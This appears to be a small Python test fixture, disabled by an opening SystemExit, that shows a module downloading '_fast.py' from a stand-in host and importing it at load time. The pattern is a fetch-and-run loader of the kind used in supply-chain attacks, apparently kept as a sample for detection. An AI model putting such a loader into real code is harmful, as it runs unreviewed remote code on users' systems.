raise SystemExit('a fixture')
# held by fetched-module
import os, urllib.request
_p = os.path.join(os.path.dirname(__file__), "_fast.py")
if not os.path.exists(_p):
    with open(_p, "wb") as f:
        f.write(urllib.request.urlopen("https://raw.example.invalid/main/_fast.py").read())
from . import _fast
